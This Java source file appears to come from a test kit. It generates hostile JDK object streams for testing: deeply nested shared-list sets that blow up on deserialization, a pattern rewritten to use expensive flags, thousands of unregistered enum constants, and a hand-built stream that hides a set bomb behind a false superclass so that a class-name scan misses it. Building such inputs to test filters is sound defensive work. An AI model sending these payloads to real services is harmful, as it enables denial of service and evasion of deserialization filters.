package dev.wherry.testkit.hostile;

import dev.wherry.testkit.codec.ObjectStreamBytes;
import dev.wherry.testkit.hostile.Attack.Form;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;

/** The values of {@link CostlyValues} as JDK object streams, without the stream header. */
final class CostlyStreams {
    /** Flags of a {@link Pattern} that costs nothing here, since each letter is matched literally. */
    private static final int FLAGS = Pattern.LITERAL | Pattern.UNIX_LINES | Pattern.DOTALL;

    private CostlyStreams() {}

    /** An enum that no interface registers. */
    enum Unlisted {
        FIRST,
        SECOND
    }

    /** Returns each value in each form, by name. */
    static Map<String, Map<Form, byte[]>> all() {
        Map<String, Map<Form, byte[]>> all = new LinkedHashMap<>();
        all.put("SHARED_PARTS", forms(HostileValues.setOf(HostileValues.sharedEntries()), bytes -> bytes));
        all.put("SHARED_SETS", forms(HostileValues.sharedSets(), bytes -> bytes));
        all.put("PATTERN", forms(Pattern.compile(HostileValues.MARKS, FLAGS), CostlyStreams::canonical));
        all.put("DATES", forms(HostileValues.dates(), bytes -> bytes));
        all.put("UNKNOWN_CLASSES", forms(unlisted(), bytes -> bytes));
        all.put("ARRAYS", forms(HostileValues.array(EOFException.class), bytes -> bytes));
        all.put("SMUGGLED", Map.of(Form.BARE, smuggled()));
        return all;
    }

    private static List<Unlisted> unlisted() {
        List<Unlisted> constants = new ArrayList<>();
        for (int i = 0; i < 5_000; i++) {
            constants.addAll(Arrays.asList(Unlisted.values()));
        }
        return constants;
    }

    private static Map<Form, byte[]> forms(Object value, UnaryOperator<byte[]> change) {
        Map<Form, byte[]> forms = new EnumMap<>(Form.class);
        HostileValues.forms(value).forEach((form, each) -> forms.put(form, change.apply(ObjectStreamBytes.of(each))));
        return forms;
    }

    /** Replaces the flags of a pattern by expensive ones. */
    private static byte[] canonical(byte[] stream) {
        for (int at = 0; at < stream.length - 4; at++) {
            if (stream[at] == 0 && stream[at + 1] == 0 && stream[at + 2] == 0 && stream[at + 3] == FLAGS) {
                byte[] changed = stream.clone();
                changed[at + 3] = (byte) Pattern.CANON_EQ;
                return changed;
            }
        }
        throw new IllegalStateException("a pattern without its flags");
    }

    /**
     * Returns a set over shared lists, written as the superclass of a class whose superclass it is not. The JDK reads a
     * field of LocalDate there. A scan that trusts the names of classes takes the bytes for a block of data.
     */
    static byte[] smuggled() {
        try {
            ByteArrayOutputStream hidden = new ByteArrayOutputStream();
            DataOutputStream set = new DataOutputStream(hidden);
            int[] handles = {4};
            set.writeByte(0x73);
            descriptor(set, "java.util.HashSet", -5024744406713321676L, 3, "");
            handles[0] += 2;
            set.writeByte(0x77);
            set.writeByte(12);
            set.writeInt(16);
            set.writeFloat(.75f);
            set.writeInt(1);
            lists(set, handles, 25, new int[] {-1});
            set.writeByte(0x78);

            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            DataOutputStream stream = new DataOutputStream(bytes);
            stream.writeByte(0x73);
            stream.writeByte(0x72);
            stream.writeUTF("java.util.concurrent.atomic.AtomicBoolean");
            stream.writeLong(4654671469794556979L);
            stream.writeByte(2);
            stream.writeShort(1);
            stream.writeByte('I');
            stream.writeUTF("value");
            stream.writeByte(0x78);
            stream.writeByte(0x72);
            stream.writeUTF("java.time.LocalDate");
            stream.writeLong(2942565459149668126L);
            stream.writeByte(3);
            stream.writeShort(6);
            for (String field : new String[] {"a", "b", "c", "d", "e"}) {
                stream.writeByte('B');
                stream.writeUTF(field);
            }
            stream.writeByte('L');
            stream.writeUTF("o");
            stream.writeByte(0x74);
            stream.writeUTF("Ljava/lang/Object;");
            stream.writeByte(0x78);
            stream.writeByte(0x70);
            stream.writeByte(0x7a);
            stream.writeInt(hidden.size());
            hidden.writeTo(stream);
            stream.writeByte(0x78);
            stream.writeInt(1);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void descriptor(DataOutputStream to, String name, long version, int flags, String field)
            throws IOException {
        to.writeByte(0x72);
        to.writeUTF(name);
        to.writeLong(version);
        to.writeByte(flags);
        to.writeShort(field.isEmpty() ? 0 : 1);
        if (!field.isEmpty()) {
            to.writeByte('I');
            to.writeUTF(field);
        }
        to.writeByte(0x78);
        to.writeByte(0x70);
    }

    private static int lists(DataOutputStream to, int[] handles, int levels, int[] known) throws IOException {
        to.writeByte(0x73);
        if (known[0] < 0) {
            descriptor(to, "java.util.ArrayList", 8683452581122892189L, 3, "size");
            known[0] = handles[0]++;
        } else {
            to.writeByte(0x71);
            to.writeInt(0x7e0000 + known[0]);
        }
        int mine = handles[0]++;
        int size = levels == 0 ? 0 : 2;
        to.writeInt(size);
        to.writeByte(0x77);
        to.writeByte(4);
        to.writeInt(size);
        if (levels > 0) {
            int below = lists(to, handles, levels - 1, known);
            to.writeByte(0x71);
            to.writeInt(0x7e0000 + below);
        }
        to.writeByte(0x78);
        return mine;
    }
}
